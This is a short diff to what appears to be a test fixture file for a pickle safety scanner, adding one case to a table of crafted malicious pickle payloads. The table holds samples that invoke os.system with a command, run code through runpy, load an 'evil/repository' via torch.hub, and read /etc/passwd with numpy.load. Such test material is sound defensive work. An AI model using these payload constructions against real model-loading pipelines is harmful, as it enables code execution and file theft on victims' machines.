@@ -104,6 +104,7 @@ PICKLES = {
     "run-code": state(call("runpy._run_code", text("import os"), b"}")),
     "torch-hub": state(call("torch.hub.load", text("evil/repository"), text("model"))),
     "numpy-load": state(call("numpy.load", text("/etc/passwd"))),
+    "name-of-a-function": state(name("torch.load"), tensor()),
     "name-alone": state(name("os.system")),
     "opcode-inst": state(b"(" + text(COMMAND.decode()) + b"ios\nsystem\n"),
     "opcode-obj": state(b"(" + name("os.system") + text(COMMAND.decode()) + b"o"),
